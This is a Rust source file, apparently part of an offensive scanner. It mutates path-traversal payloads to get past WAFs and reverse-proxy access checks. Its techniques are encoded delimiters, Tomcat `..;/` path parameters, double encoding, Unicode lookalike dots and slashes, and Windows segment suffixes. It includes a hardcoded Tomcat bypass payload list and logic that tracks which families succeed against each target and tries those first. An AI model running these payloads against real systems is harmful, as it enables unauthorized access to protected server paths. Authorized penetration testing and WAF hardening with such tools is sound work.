@@ -0,0 +1,465 @@
+use std::collections::{BTreeMap, HashMap, HashSet};
+use std::sync::Mutex;
+
+use serde::Serialize;
+
+// the Transform enum holds the payload families generated from the payloads
+// file, each family mutates the base traversals into its own variants
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Transform {
+    // puts a query or fragment delimiter in front of the traversal, front-ends
+    // that truncate at the encoded delimiter check a different path than the backend
+    QueryConfusion,
+    // adds the `;` path parameter tomcat and spring strip after the proxy checked the path
+    SegmentConfusion,
+    // encodes the slashes, then the dots and slashes twice, or the escapes once more
+    DoubleEncode,
+    // swaps the dots and slashes for the unicode lookalikes that frameworks applying
+    // nfkc or best-fit mappings fold back after the proxy checked the path
+    Unicode,
+    // suffixes the segments with what windows backends strip after the acl matched
+    // them, eg `..%20/`. the 401/403 targets get their own segments suffixed too.
+    SegmentSuffix,
+    // applies the families in sequence, each one mutating the output of the previous
+    Chain(Vec<Transform>),
+    // a family defined in a --transform-file, each rule substitutes a
+    // character of the payload with each of its replacements
+    Custom {
+        name: String,
+        rules: Vec<(String, Vec<String>)>,
+    },
+}
+
+// the delimiters placed in front of the traversal, a literal `#` never leaves
+// the client so only its encoded form is sent
+const QUERY_DELIMITERS: [&str; 3] = ["%3f", "%23", "?"];
+
+// the utf-8 encoded lookalikes of the unicode family: the fullwidth and small
+// full stops, the fullwidth solidus, the division slash, the fullwidth reverse
+// solidus that only iis takes for a separator, and the two dot leader `‥`
+const UNICODE_DOTS: [&str; 2] = ["%ef%bc%8e", "%ef%b9%92"];
+const UNICODE_SLASHES: [&str; 3] = ["%ef%bc%8f", "%e2%88%95", "%ef%bc%bc"];
+const TWO_DOT_LEADER: &str = "%e2%80%a5";
+
+// the whitespace, control characters and trailing dots windows backends strip from
+// a segment after the acl matched it, eg `/admin%20/` or `/admin./`
+pub const SEGMENT_SUFFIXES: [&str; 4] = ["%20", "%09", "%0d%0a", "."];
+
+impl Transform {
+    // parses the name of a family given to --bypass-transform, `a+b` chains the
+    // families and the families of the --transform-file can be named as well.
+    pub fn parse(name: &str, custom: &[Transform]) -> Option<Transform> {
+        if name.contains('+') {
+            let chain = name
+                .split('+')
+                .map(|name| Transform::parse(name.trim(), custom))
+                .collect::<Option<Vec<Transform>>>()?;
+            return Some(Transform::Chain(chain));
+        }
+        match name {
+            "query_confusion" => Some(Transform::QueryConfusion),
+            "segment_confusion" => Some(Transform::SegmentConfusion),
+            "double_encode" => Some(Transform::DoubleEncode),
+            "unicode" => Some(Transform::Unicode),
+            "segment_suffix" => Some(Transform::SegmentSuffix),
+            _ => custom
+                .iter()
+                .find(|transform| {
+                    matches!(transform, Transform::Custom { name: custom_name, .. } if custom_name == name)
+                })
+                .cloned(),
+        }
+    }
+
+    // the name the family is selected and reported with.
+    pub fn name(&self) -> String {
+        match self {
+            Transform::QueryConfusion => "query_confusion".to_string(),
+            Transform::SegmentConfusion => "segment_confusion".to_string(),
+            Transform::DoubleEncode => "double_encode".to_string(),
+            Transform::Unicode => "unicode".to_string(),
+            Transform::SegmentSuffix => "segment_suffix".to_string(),
+            Transform::Chain(chain) => chain
+                .iter()
+                .map(|transform| transform.name())
+                .collect::<Vec<String>>()
+                .join("+"),
+            Transform::Custom { name, .. } => name.clone(),
+        }
+    }
+
+    // returns the variants of the payload, eg `%3f/../` makes `/app/%3f/../secret`.
+    pub fn apply(&self, payload: &str) -> Vec<String> {
+        match self {
+            Transform::QueryConfusion => QUERY_DELIMITERS
+                .iter()
+                .map(|delimiter| format!("{}/{}", delimiter, payload))
+                .collect(),
+            Transform::SegmentConfusion => {
+                let variants = vec![payload.replace("../", "..;/"), payload.replace('/', ";/")];
+                dedup(payload, variants)
+            }
+            Transform::DoubleEncode => {
+                let variants = vec![
+                    payload.replace('%', "%25"),
+                    payload.replace('/', "%252f"),
+                    payload.replace('.', "%252e").replace('/', "%252f"),
+                ];
+                dedup(payload, variants)
+            }
+            Transform::Unicode => {
+                let variants = UNICODE_DOTS
+                    .iter()
+                    .map(|dot| payload.replace('.', dot))
+                    .chain(
+                        UNICODE_SLASHES
+                            .iter()
+                            .map(|slash| payload.replace('/', slash)),
+                    )
+                    .chain([
+                        payload
+                            .replace('.', UNICODE_DOTS[0])
+                            .replace('/', UNICODE_SLASHES[0]),
+                        payload.replace("..", TWO_DOT_LEADER),
+                    ])
+                    .collect();
+                dedup(payload, variants)
+            }
+            Transform::SegmentSuffix => {
+                let variants = SEGMENT_SUFFIXES
+                    .iter()
+                    .map(|suffix| suffix_segments(payload, suffix))
+                    .collect();
+                dedup(payload, variants)
+            }
+            Transform::Chain(chain) => {
+                let mut variants = vec![payload.to_string()];
+                for transform in chain {
+                    let mutated = variants
+                        .iter()
+                        .flat_map(|variant| transform.apply(variant))
+                        .collect();
+                    variants = dedup(payload, mutated);
+                }
+                variants
+            }
+            Transform::Custom { rules, .. } => {
+                let mut variants = vec![];
+                // each replacement on its own, then the nth replacements of all the rules together
+                for (from, replacements) in rules {
+                    for replacement in replacements {
+                        variants.push(payload.replace(from.as_str(), replacement));
+                    }
+                }
+                let widest = rules.iter().map(|(_, replacements)| replacements.len());
+                for index in 0..widest.max().unwrap_or(0) {
+                    let mut variant = payload.to_string();
+                    for (from, replacements) in rules {
+                        if let Some(replacement) = replacements.get(index) {
+                            variant = variant.replace(from.as_str(), replacement);
+                        }
+                    }
+                    variants.push(variant);
+                }
+                dedup(payload, variants)
+            }
+        }
+    }
+}
+
+// appends the suffix to each segment of the path followed by a slash, eg `../`
+// makes `..%20/` and `admin/panel` makes `admin%20/panel`.
+pub fn suffix_segments(path: &str, suffix: &str) -> String {
+    let mut segments: Vec<String> = path.split('/').map(str::to_string).collect();
+    let last = segments.len() - 1;
+    for segment in segments[..last].iter_mut() {
+        if !segment.is_empty() {
+            segment.push_str(suffix);
+        }
+    }
+    segments.join("/")
+}
+
+// drops the duplicate variants and the ones the family left unchanged.
+fn dedup(payload: &str, variants: Vec<String>) -> Vec<String> {
+    let mut unique: Vec<String> = vec![];
+    for variant in variants {
+        if variant != payload && !unique.contains(&variant) {
+            unique.push(variant);
+        }
+    }
+    unique
+}
+
+// loads the families of a --transform-file, the yaml maps the name of each
+// family to its rules, eg `fullwidth: {".": ["%ef%bc%8e"], "/": ["%ef%bc%8f"]}`.
+pub fn load_transform_file(path: &str) -> Result<Vec<Transform>, String> {
+    let contents = match std::fs::read_to_string(path) {
+        Ok(contents) => contents,
+        Err(e) => return Err(format!("failed to open transform file: {:?}", e)),
+    };
+    let families: BTreeMap<String, BTreeMap<String, Vec<String>>> =
+        match serde_yaml::from_str(&contents) {
+            Ok(families) => families,
+            Err(e) => return Err(format!("invalid transform file: {}", e)),
+        };
+    let mut transforms = vec![];
+    for (name, rules) in families {
+        if rules.keys().any(|from| from.is_empty()) {
+            return Err(format!("transform {} substitutes an empty string", name));
+        }
+        transforms.push(Transform::Custom {
+            name,
+            rules: rules.into_iter().collect(),
+        });
+    }
+    Ok(transforms)
+}
+
+// the built-in families, in the order they are documented.
+pub fn builtin_transforms() -> Vec<Transform> {
+    vec![
+        Transform::QueryConfusion,
+        Transform::SegmentConfusion,
+        Transform::DoubleEncode,
+        Transform::Unicode,
+        Transform::SegmentSuffix,
+    ]
+}
+
+// parses the comma separated --bypass-transform value.
+pub fn parse_transforms(value: &str, custom: &[Transform]) -> Result<Vec<Transform>, String> {
+    let mut transforms = vec![];
+    for name in value.split(',') {
+        let name = name.trim();
+        if name.is_empty() {
+            continue;
+        }
+        match Transform::parse(name, custom) {
+            Some(transform) => transforms.push(transform),
+            None => return Err(format!("unknown bypass transform: {}", name)),
+        }
+    }
+    Ok(transforms)
+}
+
+// the family of the payloads read from the payloads file
+pub const BASE_FAMILY: &str = "base";
+
+// the family of the `..;/` traversals sent first to the targets fingerprinted
+// as tomcat, which strips the `;` path parameter after the proxy in front of
+// it checked the path
+pub const TOMCAT_FAMILY: &str = "tomcat";
+pub const TOMCAT_PAYLOADS: [&str; 8] = [
+    "..;/",
+    "..;a=a/",
+    "..;jsessionid=a/",
+    ".;/..;/",
+    "..;%2f",
+    "%2e%2e;/",
+    "%2e%2e;%2f",
+    "..;/;/",
+];
+
+// returns the payloads followed by the variants of the selected families with
+// the family that generated them, without the duplicates. max_per_family caps
+// the variants each family generates from a payload.
+pub fn generate_payloads(
+    payloads: &[String],
+    transforms: &[Transform],
+    max_per_family: Option<usize>,
+) -> Vec<(String, String)> {
+    let mut generated: Vec<(String, String)> = vec![];
+    let mut push = |payload: String, family: String| {
+        if !generated.iter().any(|(generated, _)| *generated == payload) {
+            generated.push((payload, family));
+        }
+    };
+    for payload in payloads {
+        push(payload.clone(), BASE_FAMILY.to_string());
+    }
+    for transform in transforms {
+        for payload in payloads {
+            let variants = transform.apply(payload);
+            let max = max_per_family.unwrap_or(variants.len());
+            for variant in variants.into_iter().take(max) {
+                push(variant, transform.name());
+            }
+        }
+    }
+    generated
+}
+
+// cleans the lines of the payloads file: a `#` at the start of the line or
+// after whitespace starts a comment, the whitespace around the payloads is
+// trimmed and the case variants are only kept once. a line can start with a
+// weight (eg `90 ..;/`), the heaviest payloads are sent first and the
+// unweighted ones keep their order after them.
+pub fn clean_payloads(lines: Vec<String>) -> Vec<String> {
+    let mut seen = HashSet::new();
+    let mut payloads = vec![];
+    for line in lines {
+        let line = strip_comment(&line).trim();
+        let (weight, payload) = match line.split_once(char::is_whitespace) {
+            Some((weight, payload)) => match weight.parse::<u32>() {
+                Ok(weight) => (weight, payload.trim()),
+                Err(_) => (0, line),
+            },
+            None => (0, line),
+        };
+        if !payload.is_empty() && seen.insert(payload.to_lowercase()) {
+            payloads.push((weight, payload.to_string()));
+        }
+    }
+    payloads.sort_by_key(|(weight, _)| std::cmp::Reverse(*weight));
+    payloads.into_iter().map(|(_, payload)| payload).collect()
+}
+
+// cuts the comment off the line, a `#` inside a payload (eg `..%2f#/`) is kept.
+fn strip_comment(line: &str) -> &str {
+    let mut after_whitespace = true;
+    for (index, c) in line.char_indices() {
+        if c == '#' && after_whitespace {
+            return &line[..index];
+        }
+        after_whitespace = c.is_whitespace();
+    }
+    line
+}
+
+// returns the payloads of the file one of the families would generate anyway
+// from another payload, with the family and the payload it comes from.
+pub fn redundant_payloads(
+    payloads: &[String],
+    transforms: &[Transform],
+) -> Vec<(String, String, String)> {
+    let mut redundant: Vec<(String, String, String)> = vec![];
+    for transform in transforms {
+        for source in payloads {
+            for variant in transform.apply(source) {
+                let listed = redundant.iter().any(|(payload, _, _)| *payload == variant);
+                if !listed && payloads.contains(&variant) {
+                    redundant.push((variant, transform.name(), source.clone()));
+                }
+            }
+        }
+    }
+    redundant
+}
+
+// the FamilyStats struct counts the attempts, blocks and bypasses of each
+// family against each target, shared by all the workers
+#[derive(Debug, Default)]
+pub struct FamilyStats {
+    families: HashMap<String, String>,
+    // keyed by family and host, the waf of a host is only known after its first block
+    outcomes: Mutex<HashMap<(String, String), FamilyCounts>>,
+    // the families that bypassed each target
+    succeeded: Mutex<HashMap<String, HashSet<String>>>,
+}
+
+// the FamilyCounts struct holds the outcomes of a family against a target or a waf
+#[derive(Clone, Copy, Debug, Default, Serialize)]
+pub struct FamilyCounts {
+    pub attempts: u32,
+    pub blocked: u32,
+    pub bypassed: u32,
+}
+
+// the FamilyOutcome struct holds the outcomes of a family against the targets
+// behind a waf, a row of the summary
+#[derive(Clone, Debug, Serialize)]
+pub struct FamilyOutcome {
+    pub family: String,
+    pub waf: String,
+    #[serde(flatten)]
+    pub counts: FamilyCounts,
+}
+
+// the Outcome enum holds what became of a traversal request
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Outcome {
+    Attempted,
+    Blocked,
+    Bypassed,
+}
+
+impl FamilyStats {
+    // the tomcat payloads are tagged with their family even when they are
+    // listed in the payloads file.
+    pub fn new(generated: &[(String, String)]) -> FamilyStats {
+        let tomcat = TOMCAT_PAYLOADS
+            .iter()
+            .map(|payload| (payload.to_string(), TOMCAT_FAMILY.to_string()));
+        FamilyStats {
+            families: generated.iter().cloned().chain(tomcat).collect(),
+            outcomes: Mutex::new(HashMap::new()),
+            succeeded: Mutex::new(HashMap::new()),
+        }
+    }
+
+    // records the outcome of the payload against the target.
+    pub fn record(&self, host: &str, payload: &str, outcome: Outcome) {
+        let family = self.family(payload);
+        if outcome == Outcome::Bypassed {
+            let mut succeeded = self.succeeded.lock().unwrap();
+            succeeded
+                .entry(host.to_string())
+                .or_default()
+                .insert(family.clone());
+        }
+        let mut outcomes = self.outcomes.lock().unwrap();
+        let counts = outcomes.entry((family, host.to_string())).or_default();
+        match outcome {
+            Outcome::Attempted => counts.attempts += 1,
+            Outcome::Blocked => counts.blocked += 1,
+            Outcome::Bypassed => counts.bypassed += 1,
+        }
+    }
+
+    // the family that generated the payload.
+    pub fn family(&self, payload: &str) -> String {
+        match self.families.get(payload) {
+            Some(family) => family.clone(),
+            None => BASE_FAMILY.to_string(),
+        }
+    }
+
+    // moves the payloads of the families that already bypassed the target to the front.
+    pub fn prioritize(&self, host: &str, payloads: &mut [String]) {
+        let succeeded = self.succeeded.lock().unwrap();
+        let families = match succeeded.get(host) {
+            Some(families) => families,
+            None => return,
+        };
+        payloads.sort_by_key(|payload| !families.contains(&self.family(payload)));
+    }
+
+    // returns the family, waf and outcomes sorted by family. the waf of each
+    // host is resolved when reporting so that the attempts made before its
+    // first block count towards it, an unknown waf is reported as `none`.
+    pub fn summary<F>(&self, waf: F) -> Vec<FamilyOutcome>
+    where
+        F: Fn(&str) -> Option<String>,
+    {
+        let outcomes = self.outcomes.lock().unwrap();
+        let mut totals: HashMap<(String, String), FamilyCounts> = HashMap::new();
+        for ((family, host), counts) in outcomes.iter() {
+            let waf = waf(host).unwrap_or_else(|| "none".to_string());
+            let total = totals.entry((family.clone(), waf)).or_default();
+            total.attempts += counts.attempts;
+            total.blocked += counts.blocked;
+            total.bypassed += counts.bypassed;
+        }
+        let mut summary: Vec<FamilyOutcome> = totals
+            .into_iter()
+            .map(|((family, waf), counts)| FamilyOutcome {
+                family,
+                waf,
+                counts,
+            })
+            .collect();
+        summary.sort_by(|a, b| (&a.family, &a.waf).cmp(&(&b.family, &b.waf)));
+        summary
+    }
+}